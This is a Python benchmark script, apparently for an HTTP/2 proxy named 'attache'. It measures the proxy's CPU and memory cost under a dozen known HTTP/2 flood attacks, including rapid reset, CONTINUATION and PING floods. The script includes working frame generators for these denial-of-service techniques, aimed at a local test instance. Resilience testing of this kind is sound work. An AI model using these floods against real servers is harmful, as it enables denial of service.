#!/usr/bin/env python3
"""Measures the cost of HTTP/2 floods: the CPU time of the proxy per second of the attacker's, and the proxy's memory.

    python3 benches/flood.py target/release/attache [SECONDS]

Each flood uses one connection at a time; whenever the proxy ends it, a new one is opened. The attacker is a process that sends prepared bytes,
which is the cheapest possible attacker. The upstream is a server that responds at once.
"""
import os
import resource
import socket
import subprocess
import sys
import tempfile
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\4\0" + bytes(4)
HEADERS = bytes([0x82, 0x86, 0x84, 0x41, 1]) + b"h"  # GET http://h/
CONTINUED = 1 << 20


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def streams(make):
    """Frames of 5,000 streams, each once."""
    return b"", [b"".join(make(2 * n + 1) for n in range(k, k + 100)) for k in range(0, 5000, 100)]


def again(piece, begin=b"", times=1000):
    return begin, [piece * times] * CONTINUED


# The first bytes on each connection, and the pieces that follow again and again.
FLOODS = {
    "rapid reset (CVE-2023-44487)": streams(lambda n: frame(1, 5, n, HEADERS) + frame(3, 0, n, b"\0\0\0\10")),
    "made to reset (CVE-2025-8671)": streams(lambda n: frame(1, 4, n, HEADERS) + frame(8, 0, n, b"\x7f\xff\xff\xff")),
    "CONTINUATION (CVE-2024-27316)": again(frame(9, 0, 1, b""), frame(1, 1, 1, HEADERS)),
    "window dribble (CVE-2019-9511)": again(frame(8, 0, 1, b"\0\0\0\1"), frame(1, 5, 1, HEADERS)),
    "PING (CVE-2019-9512)": again(frame(6, 0, 0, b"12345678")),
    "PRIORITY (CVE-2019-9513)": again(frame(2, 0, 1, b"\0\0\0\3\1")),
    "resets of invalid streams (CVE-2019-9514)": streams(lambda n: frame(1, 5, n, b"\x82\x86")),
    "SETTINGS (CVE-2019-9515)": again(frame(4, 0, 0, b"\0\4\0\0\xff\xff")),
    "empty names, HPACK (CVE-2019-9516)": streams(lambda n: frame(1, 5, n, HEADERS + b"\x40\0\0" * 200)),
    "nothing read (CVE-2019-9517)": streams(lambda n: frame(1, 5, n, HEADERS)),
    "empty DATA (CVE-2019-9518)": again(frame(0, 0, 1), frame(1, 4, 1, HEADERS)),
    "one byte of DATA a frame": again(frame(0, 0, 1, b"x"), frame(1, 4, 1, HEADERS)),
    "GET that is answered (for comparison)": streams(lambda n: frame(1, 5, n, HEADERS)),
}


def upstream():
    listener = socket.create_server(("127.0.0.1", 0), backlog=512)

    def serve(connection):
        try:
            while data := connection.recv(1 << 16):
                connection.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok" * max(1, data.count(b"\r\n\r\n")))
        except OSError:
            pass  # The proxy has ended this connection together with the client's.

    def accept():
        while True:
            threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    return listener.getsockname()[1]


def attack(name, port, seconds):
    """Runs the flood; returns the attacker's CPU seconds, its connections, and the bytes of its frames."""
    begin, pieces = FLOODS[name]
    reads = "nothing read" not in name
    end, connections, sent = time.monotonic() + seconds, 0, 0
    while time.monotonic() < end:
        connections += 1
        with socket.create_connection(("127.0.0.1", port)) as attacker:
            attacker.settimeout(0.2)
            try:
                attacker.sendall(PREFACE + begin)
                for piece in pieces:
                    attacker.sendall(piece)
                    sent += len(piece)
                    attacker.setblocking(False)
                    try:
                        while reads and attacker.recv(1 << 16):
                            pass
                    except BlockingIOError:
                        pass
                    attacker.settimeout(0.2)
                    if time.monotonic() > end:
                        break
            except OSError:
                pass
    used = resource.getrusage(resource.RUSAGE_SELF)
    print(used.ru_utime + used.ru_stime, connections, sent)


def cpu(pid):
    fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def memory(pid, what):
    line = next(line for line in open(f"/proc/{pid}/status") if line.startswith(what))
    return int(line.split()[1]) / 1024


def main():
    binary, seconds = sys.argv[1], float(sys.argv[2]) if len(sys.argv) > 2 else 3
    to = upstream()
    print("| flood | attacker CPU s | attache CPU s | per attacker CPU s | connections/s | MB/s | peak MiB |")
    print("| --- | --- | --- | --- | --- | --- | --- |")
    for name in FLOODS:
        with tempfile.TemporaryDirectory() as folder:
            port = socket.create_server(("127.0.0.1", 0)).getsockname()[1]
            config = f"{folder}/attache.yaml"
            with open(config, "w") as file:
                file.write(
                    f"workers: 1\nadmin: off\nmetrics: off\nlisteners: {{ o: {{ bind: '127.0.0.1:{port}', to: u }} }}\n"
                    f"upstreams: {{ u: 'http://127.0.0.1:{to}' }}\n"
                )
            proxy = subprocess.Popen([binary, "run", "-c", config], stderr=subprocess.DEVNULL)
            try:
                time.sleep(0.7)
                before = cpu(proxy.pid)
                output = subprocess.run(
                    [sys.executable, __file__, "--attack", name, str(port), str(seconds)], capture_output=True, text=True
                ).stdout.split()
                spent, connections, sent = map(float, output)
                ours = cpu(proxy.pid) - before
                print(
                    f"| {name} | {spent:.2f} | {ours:.2f} | {ours / max(spent, 0.01):.2f} | {connections / seconds:.0f} | "
                    f"{sent / seconds / 1e6:.1f} | {memory(proxy.pid, 'VmHWM'):.0f} |",
                    flush=True,
                )
            finally:
                proxy.kill()
                proxy.wait()


if sys.argv[1] == "--attack":
    attack(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
else:
    main()
